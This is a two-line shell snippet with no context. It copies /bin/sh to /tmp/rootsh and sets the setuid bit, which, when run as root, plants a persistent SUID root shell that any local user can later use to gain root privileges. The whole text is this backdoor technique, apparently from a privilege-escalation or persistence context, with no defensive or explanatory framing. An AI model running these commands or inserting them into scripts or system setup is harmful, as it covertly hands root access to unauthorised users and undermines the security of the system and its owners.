cp /bin/sh /tmp/rootsh
chmod u+s /tmp/rootsh
